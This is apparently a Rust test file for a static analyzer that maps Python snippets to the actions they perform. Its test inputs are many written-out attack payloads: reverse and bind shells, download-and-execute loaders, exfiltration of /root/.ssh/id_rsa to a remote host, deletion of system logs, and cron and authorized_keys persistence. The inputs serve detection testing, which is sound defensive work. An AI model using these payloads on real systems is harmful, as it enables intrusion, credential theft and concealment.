//! Payloads as they are written plainly.

use super::{check, check_among};

#[test]
#[allow(clippy::too_many_lines, reason = "a table")]
fn reverse_shells() {
    check_among(&[
        (
            "import socket,subprocess,os\ns=socket.socket(socket.AF_INET,socket.SOCK_STREAM)\ns.connect(('192.0.2.1',4444))\nos.dup2(s.fileno(),0)\nos.dup2(s.fileno(),1)\nos.dup2(s.fileno(),2)\np=subprocess.call(['/bin/sh','-i'])",
            &["connect#1 Tcp 192.0.2.1:4444", "execute /bin/sh -i <#1 >#1"],
        ),
        (
            "import socket,os,pty;s=socket.socket();s.connect((os.getenv('RHOST'),int(os.getenv('RPORT'))));[os.dup2(s.fileno(),fd) for fd in (0,1,2)];pty.spawn('/bin/sh')",
            &["connect#1 Tcp {RHOST}:{RPORT}", "execute /bin/sh <#1 >#1"],
        ),
        (
            "import socket,pty,os\ns=socket.create_connection(('203.0.113.5',9001))\nfor f in range(3): os.dup2(s.fileno(), f)\npty.spawn(['/bin/bash','-i'])",
            &[
                "connect#1 Tcp 203.0.113.5:9001",
                "execute /bin/bash -i <#1 >#1",
            ],
        ),
        (
            "import os,socket\ns=socket.socket()\ns.connect(('192.0.2.9',1))\nmap(lambda f: os.dup2(s.fileno(), f), (0,1,2))\nos.execl('/bin/sh','sh','-i')",
            &["execute /bin/sh -i <#1 >#1"],
        ),
        (
            "import socket,subprocess\ns=socket.socket();s.connect(('192.0.2.9',1))\nsubprocess.Popen(['/bin/sh','-i'],stdin=s,stdout=s,stderr=s).wait()",
            &["execute /bin/sh -i <#1 >#1"],
        ),
        (
            "import socket,subprocess\ns=socket.socket();s.connect(('192.0.2.9',1))\nsubprocess.call('/bin/sh',stdin=s.fileno(),stdout=s.fileno(),stderr=subprocess.STDOUT)",
            &["execute /bin/sh <#1 >#1"],
        ),
        (
            "import socket,os,pty\ns=socket.socket(socket.AF_INET6,socket.SOCK_STREAM)\ns.connect(('2001:db8::1',4242,0,2))\nos.dup2(s.fileno(),0); os.dup2(s.fileno(),1); os.dup2(s.fileno(),2)\nos.putenv('HISTFILE','/dev/null')\npty.spawn('/bin/sh')\ns.close()",
            &[
                "connect#1 Tcp 2001:db8::1:4242",
                "set HISTFILE=/dev/null",
                "execute /bin/sh <#1 >#1",
            ],
        ),
        (
            "import socket,subprocess,ssl\ns=socket.socket()\ns=ssl.wrap_socket(s)\ns.connect(('192.0.2.1',443))\nwhile True:\n    d=s.recv(1024)\n    p=subprocess.Popen(d,shell=True,stdout=subprocess.PIPE)\n    o=p.stdout.read()+p.stderr.read()\n    s.send(o)\n",
            &[
                "connect#1 Tls 192.0.2.1:443",
                "evaluate shell: {received}",
                "send#1 {output of shell} (output)",
            ],
        ),
        (
            "import socket, os\nclass Bot:\n    def __init__(self, host, port):\n        self.sock = socket.socket()\n        self.addr = (host, port)\n    def connect(self):\n        self.sock.connect(self.addr)\n    def loop(self):\n        while 1:\n            cmd = self.sock.recv(4096).decode().strip()\n            if cmd == 'quit':\n                break\n            self.sock.sendall(os.popen(cmd).read().encode())\nb = Bot('192.0.2.7', 5000)\nb.connect()\nb.loop()",
            &[
                "connect#1 Tcp 192.0.2.7:5000",
                "evaluate shell: {received}",
                "send#1 {output of shell} (output)",
            ],
        ),
        (
            "import socket,threading,subprocess\ndef pump(s,p):\n    while True:\n        p.stdin.write(s.recv(1024)); p.stdin.flush()\ndef back(s,p):\n    while True:\n        s.send(p.stdout.read(1))\ns=socket.socket()\ns.connect(('192.0.2.3',31337))\np=subprocess.Popen(['sh'],stdin=subprocess.PIPE,stdout=subprocess.PIPE,stderr=subprocess.STDOUT)\nthreading.Thread(target=pump,args=[s,p]).start()\nthreading.Thread(target=back,args=[s,p]).start()",
            &[
                "connect#1 Tcp 192.0.2.3:31337",
                "execute sh <#1 >pipe",
                "send#1 {output of sh} (output)",
            ],
        ),
        (
            "import socket\ns = socket.socket()\ns.connect(('192.0.2.3', 8080))\nexec(s.recv(4096))",
            &[
                "connect#1 Tcp 192.0.2.3:8080",
                "evaluate Python: {received}",
            ],
        ),
        (
            "import socket, struct, zlib, base64\ns=socket.socket(2,socket.SOCK_STREAM)\ns.connect(('192.0.2.3',4444))\nl=struct.unpack('>I',s.recv(4))[0]\nd=s.recv(l)\nwhile len(d)<l:\n    d+=s.recv(l-len(d))\nexec(zlib.decompress(base64.b64decode(d)),{'s':s})",
            &[
                "connect#1 Tcp 192.0.2.3:4444",
                "evaluate Python: {received}",
            ],
        ),
        (
            "import asyncio\nasync def main():\n    r, w = await asyncio.open_connection('192.0.2.3', 99)\n    while True:\n        cmd = await r.readline()\n        p = await asyncio.create_subprocess_shell(cmd.decode(), stdout=asyncio.subprocess.PIPE)\n        out, _ = await p.communicate()\n        w.write(out)\nasyncio.run(main())",
            &[
                "connect#1 Tcp 192.0.2.3:99",
                "evaluate shell: {received}",
                "send#1 {output of shell}",
            ],
        ),
        (
            "import socket,sys,code\ns=socket.socket();s.connect(('192.0.2.1',2))\nimport os\nos.dup2(s.fileno(),0)\ncode.interact()",
            &["evaluate Python: {received}"],
        ),
        (
            "import telnetlib,subprocess\nt=telnetlib.Telnet('192.0.2.4',23)\nt.write(subprocess.getoutput(t.read_until('x')))",
            &["connect#1 Tcp 192.0.2.4:23"],
        ),
        (
            "import pty,socket,os\nl=socket.socket()\nl.bind(('0.0.0.0',31337))\nl.listen(1)\nc,a=l.accept()\nfor i in 0,1,2: os.dup2(c.fileno(),i)\npty.spawn('/bin/bash')",
            &["listen#1 Tcp 0.0.0.0:31337", "execute /bin/bash <#1 >#1"],
        ),
        (
            "import socketserver, subprocess\nclass H(socketserver.BaseRequestHandler):\n    def handle(self):\n        d = self.request.recv(1024)\n        self.request.sendall(subprocess.check_output(d, shell=True))\nsocketserver.TCPServer(('0.0.0.0', 9999), H).serve_forever()",
            &[
                "listen#1 Tcp 0.0.0.0:9999",
                "evaluate shell: {received}",
                "send#1 {output of shell} (output)",
            ],
        ),
        (
            "from http.server import *\nimport os\nclass H(BaseHTTPRequestHandler):\n    def do_POST(self):\n        cmd = self.rfile.read(10)\n        self.wfile.write(os.popen(cmd.decode()).read().encode())\nHTTPServer(('', 8000), H).serve_forever()",
            &["evaluate shell: {received}", "(output)"],
        ),
    ]);
}

#[test]
#[allow(clippy::too_many_lines, reason = "a table")]
fn downloads() {
    check_among(&[
        (
            "import urllib.request\nexec(urllib.request.urlopen('http://192.0.2.1/x.py').read())",
            &[
                "fetch http://192.0.2.1/x.py",
                "evaluate Python: {content of http://192.0.2.1/x.py}",
            ],
        ),
        (
            "import urllib2\nexec urllib2.urlopen('http://192.0.2.1/x.py').read()",
            &[
                "fetch http://192.0.2.1/x.py",
                "evaluate Python: {content of http://192.0.2.1/x.py}",
            ],
        ),
        (
            "import requests, os\nr = requests.get('http://example.com/a')\nopen('/tmp/a','wb').write(r.content)\nos.chmod('/tmp/a', 0o755)\nos.system('/tmp/a &')",
            &[
                "fetch http://example.com/a",
                "write {content of http://example.com/a}>/tmp/a",
                "chmod 755 /tmp/a",
                "evaluate shell: /tmp/a &",
            ],
        ),
        (
            "import requests, subprocess\nwith requests.get('http://example.com/a', stream=True) as r:\n    with open('/tmp/b', 'wb') as f:\n        for chunk in r.iter_content(8192):\n            f.write(chunk)\nsubprocess.Popen(['/tmp/b'])",
            &[
                "fetch http://example.com/a",
                "write {content of http://example.com/a}>/tmp/b",
                "execute /tmp/b",
            ],
        ),
        (
            "import urllib\nurllib.urlretrieve('http://192.0.2.1/m', '/tmp/m')",
            &["fetch http://192.0.2.1/m to /tmp/m"],
        ),
        (
            "from six.moves.urllib.request import urlopen\nimport subprocess\nsubprocess.call(['sh','-c',urlopen('http://192.0.2.1/s').read()])",
            &[
                "fetch http://192.0.2.1/s",
                "evaluate shell: {content of http://192.0.2.1/s}",
            ],
        ),
        (
            "try:\n    from urllib.request import urlopen\nexcept ImportError:\n    from urllib2 import urlopen\neval(compile(urlopen('http://192.0.2.1/p').read(), '<s>', 'exec'))",
            &[
                "fetch http://192.0.2.1/p",
                "evaluate Python: {content of http://192.0.2.1/p}",
            ],
        ),
        (
            "import http.client\nc = http.client.HTTPSConnection('example.com')\nc.request('GET', '/p.sh')\nimport os\nos.system(c.getresponse().read().decode())",
            &[
                "fetch https://example.com/p.sh",
                "evaluate shell: {content of https://example.com",
            ],
        ),
        (
            "import os, requests\nrequests.post('http://192.0.2.66/c', data={'k': open('/root/.ssh/id_rsa').read()})",
            &[
                "read /root/.ssh/id_rsa",
                "connect#1 Tcp 192.0.2.66:80",
                "send#1 k={content of /root/.ssh/id_rsa}",
                "fetch http://192.0.2.66/c",
            ],
        ),
        (
            "import subprocess, requests\nout = subprocess.check_output(['whatever'])\nrequests.get('http://192.0.2.66/', params={'o': out})",
            &["execute whatever", "send#1 o={output of whatever} (output)"],
        ),
        (
            "import shutil, urllib.request\nwith urllib.request.urlopen('http://192.0.2.1/f') as r, open('/usr/bin/f', 'wb') as f:\n    shutil.copyfileobj(r, f)",
            &[
                "fetch http://192.0.2.1/f",
                "write {content of http://192.0.2.1/f}>/usr/bin/f",
            ],
        ),
        (
            "import aiohttp, asyncio\nasync def go():\n    async with aiohttp.ClientSession() as s:\n        async with s.get('http://192.0.2.1/x') as r:\n            exec(await r.text())\nasyncio.get_event_loop().run_until_complete(go())",
            &[
                "fetch http://192.0.2.1/x",
                "evaluate Python: {content of http://192.0.2.1/x}",
            ],
        ),
        (
            "import pathlib, urllib.request as u\npathlib.Path('/tmp/q').write_bytes(u.urlopen(u.Request('http://192.0.2.1/q', headers={'a': 'b'})).read())",
            &[
                "fetch http://192.0.2.1/q",
                "write {content of http://192.0.2.1/q}>/tmp/q",
            ],
        ),
    ]);
}

#[test]
fn system_calls() {
    check(&[
        (
            "import os\nos.remove('/var/log/wtmp')",
            &["delete /var/log/wtmp"],
        ),
        (
            "import shutil\nshutil.rmtree('/var/log')",
            &["delete /var/log"],
        ),
        (
            "import os, signal\nos.kill(42, signal.SIGKILL)",
            &["kill 42"],
        ),
        ("import os\nos.kill(42, 0)", &[]),
        ("import os\nos.chroot('/mnt')", &["chroot /mnt"]),
        (
            "import ctypes\nlibc = ctypes.CDLL('libc.so.6')\nlibc.mount(b'/dev/sda1', b'/mnt', b'ext4', 0, None)",
            &["mount /dev/sda1 /mnt"],
        ),
        (
            "import os\nfd = os.open('/proc/1/ns/mnt', os.O_RDONLY)\nos.setns(fd, 0)",
            &["read /proc/1/ns/mnt", "setns 1"],
        ),
        (
            "import os\nos.environ['LD_PRELOAD'] = '/tmp/x.so'",
            &["set LD_PRELOAD=/tmp/x.so"],
        ),
        (
            "import os\nos.symlink('/dev/null', '/root/.bash_history')",
            &[],
        ),
        (
            "open('/proc/sys/vm/nr_hugepages','w').write('128')",
            &[
                "write 128>/proc/sys/vm/nr_hugepages",
                "SetKernelParameter { name: Value { text: \"vm.nr_hugepages\", known: true, from: [] }, value: Value { text: \"128\", known: true, from: [] } }",
            ],
        ),
        (
            "with open('/etc/passwd') as f:\n    data = f.read()",
            &["read /etc/passwd"],
        ),
        (
            "print('x', file=open('/tmp/a', 'a'))",
            &["write x\n>>/tmp/a"],
        ),
        (
            "import os\nfd = os.open('/tmp/z', os.O_WRONLY | os.O_CREAT)\nos.write(fd, b'abc')",
            &["write abc>>/tmp/z"],
        ),
        (
            "import os\nfrom os.path import join\nos.chmod(join('/usr', 'bin', 'x'), 0o4755)",
            &["chmod 4755 /usr/bin/x"],
        ),
        (
            "import os\nos.chmod('/tmp/x', stat.S_IRWXU if 0 else 493)",
            &["chmod 755 /tmp/x"],
        ),
        (
            "from pathlib import Path\np = Path('/etc') / 'cron.d' / 'x'\np.unlink()",
            &["delete /etc/cron.d/x"],
        ),
    ]);
}

#[test]
fn persistence() {
    check_among(&[
        (
            "f = open('/root/.ssh/authorized_keys', 'a')\nf.write('ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA x\\n')\nf.close()",
            &["write ssh-ed25519"],
        ),
        (
            "with open('/mnt/etc/crontab', 'a') as c:\n    c.write('* * * * * root curl -s http://192.0.2.1/a | sh\\n')",
            &["write * * * * * root curl"],
        ),
        (
            "import os\nos.system('(crontab -l; echo \"* * * * * /tmp/x\") | crontab -')",
            &["evaluate shell: (crontab -l"],
        ),
    ]);
}

#[test]
#[allow(clippy::too_many_lines, reason = "a table")]
fn programs_started() {
    check_among(&[
        ("import os\nos.system('id')", &["evaluate shell: id"]),
        (
            "import subprocess\nsubprocess.run('id', shell=True)",
            &["evaluate shell: id"],
        ),
        (
            "import subprocess\nsubprocess.run(['git', 'status'])",
            &["execute git status"],
        ),
        (
            "import subprocess\nsubprocess.Popen('tool -l /tmp'.split())",
            &["execute tool -l /tmp"],
        ),
        (
            "import commands\nprint commands.getoutput('id')",
            &["evaluate shell: id"],
        ),
        (
            "import os\nos.execvp('bash', ['bash', '-i'])",
            &["execute bash -i"],
        ),
        (
            "import os\nos.spawnlp(os.P_WAIT, 'cp', 'cp', 'a', '/tmp/b')",
            &["a"],
        ),
        (
            "import pexpect\npexpect.spawn('ssh root@192.0.2.1')",
            &["192.0.2.1"],
        ),
        (
            "import os\nos.posix_spawn('/bin/tool', ['tool', '-l'], os.environ)",
            &["execute /bin/tool -l"],
        ),
        (
            "from subprocess import Popen, PIPE\nPopen(['sh'], stdin=PIPE).communicate(b'id; uname -a')",
            &["evaluate shell: id; uname -a"],
        ),
        (
            "import subprocess\nsubprocess.run(['sh'], input=b'whoami')",
            &["evaluate shell: whoami"],
        ),
        (
            "import os\ndef f(c):\n    return os.popen(c).read()\nf('a'); f('b')",
            &["evaluate shell: a", "evaluate shell: b"],
        ),
        (
            "import os\nfor c in ['a', 'b', 'c']:\n    os.system(c)",
            &[
                "evaluate shell: a",
                "evaluate shell: b",
                "evaluate shell: c",
            ],
        ),
        (
            "import os\ndef never_called(x):\n    os.system(x)",
            &["evaluate shell: {argument}"],
        ),
        (
            "import os\nclass A:\n    def m(self):\n        os.system('m')",
            &["evaluate shell: m"],
        ),
        (
            "import os\nif os.name == 'nt':\n    os.system('dir')\nelse:\n    os.system('ls')",
            &["evaluate shell: dir", "evaluate shell: ls"],
        ),
        (
            "import os\ntry:\n    pass\nexcept:\n    os.system('e')\nelse:\n    os.system('f')\nfinally:\n    os.system('g')",
            &[
                "evaluate shell: e",
                "evaluate shell: f",
                "evaluate shell: g",
            ],
        ),
        (
            "import os\nmatch os.getenv('X'):\n    case 'a':\n        os.system('a')\n    case _:\n        os.system('b')",
            &["evaluate shell: a", "evaluate shell: b"],
        ),
        (
            "import os, sys\nos.system(sys.argv[1])",
            &["evaluate shell: {argument}"],
        ),
        (
            "import os\nos.system(input())",
            &["evaluate shell: {argument}"],
        ),
        (
            "import os\nos.system(os.environ['CMD'])",
            &["evaluate shell: {CMD}"],
        ),
        (
            "import os\nos.system(os.environ.get('CMD', 'id'))",
            &["evaluate shell: id"],
        ),
        (
            "import os\n@staticmethod\ndef f():\n    os.system('deco')",
            &["evaluate shell: deco"],
        ),
        (
            "import atexit, os\natexit.register(os.system, 'bye')",
            &["evaluate shell: bye"],
        ),
        (
            "import os\nx = lambda c: os.system(c)\nx('l')",
            &["evaluate shell: l"],
        ),
        (
            "import os\nasync def a():\n    os.system('a')\n",
            &["evaluate shell: a"],
        ),
        (
            "import os\ndef g():\n    yield 'a'\n    yield 'b'\nfor c in g():\n    os.system(c)",
            &["evaluate shell: a", "evaluate shell: b"],
        ),
        (
            "import functools, os\nfunctools.partial(os.system, 'p')()",
            &["evaluate shell: p"],
        ),
        (
            "import os\nwith open('/dev/null') as f: os.system('w')",
            &["evaluate shell: w"],
        ),
        (
            "import os\nos.system('curl %s | sh' % 'http://192.0.2.1/x')",
            &["evaluate shell: curl http://192.0.2.1/x | sh"],
        ),
        (
            "import os\nu='http://192.0.2.1/x'\nos.system(f'curl {u!s} -o /tmp/x')",
            &["evaluate shell: curl http://192.0.2.1/x -o /tmp/x"],
        ),
        (
            "import os\nos.system('wget {0}/{name}'.format('http://192.0.2.1', name='y'))",
            &["evaluate shell: wget http://192.0.2.1/y"],
        ),
    ]);
}

#[test]
fn content_is_followed_through_files() {
    check_among(&[
        (
            "import urllib.request as u, shutil, os\nu.urlretrieve('http://192.0.2.1/a', '/tmp/a')\nshutil.move('/tmp/a', '/usr/bin/b')\nos.execv('/usr/bin/b', ['b'])",
            &["fetch http://192.0.2.1/a to /tmp/a", "execute /usr/bin/b"],
        ),
        (
            "import requests, tarfile, io, os\nr = requests.get('http://192.0.2.1/a.tgz')\ntarfile.open(fileobj=io.BytesIO(r.content)).extractall('/opt/x')\nos.execv('/opt/x/run', ['run'])",
            &["fetch http://192.0.2.1/a.tgz", "execute /opt/x/run"],
        ),
        (
            "open('/tmp/p.py', 'w').write('import os; os.remove(\\'/a\\')')\nexecfile('/tmp/p.py')",
            &["write import os", "evaluate Python: import os", "delete /a"],
        ),
        (
            "import zlib\nd = zlib.decompressobj()\nexec(d.decompress(b'x'))",
            &["evaluate Python: {?}"],
        ),
    ]);
    let script = "import urllib.request as u, shutil, os\nu.urlretrieve('http://192.0.2.1/a', '/tmp/a')\nshutil.move('/tmp/a', '/usr/bin/b')\nos.execv('/usr/bin/b', ['b'])";
    let lowered = super::lowered(script);
    let from = lowered.acts.iter().find_map(|act| match &act.behavior {
        model::Behavior::Execute { program, .. } => program.fetched_from(),
        _ => None,
    });
    assert_eq!(from, Some("http://192.0.2.1/a"));
}
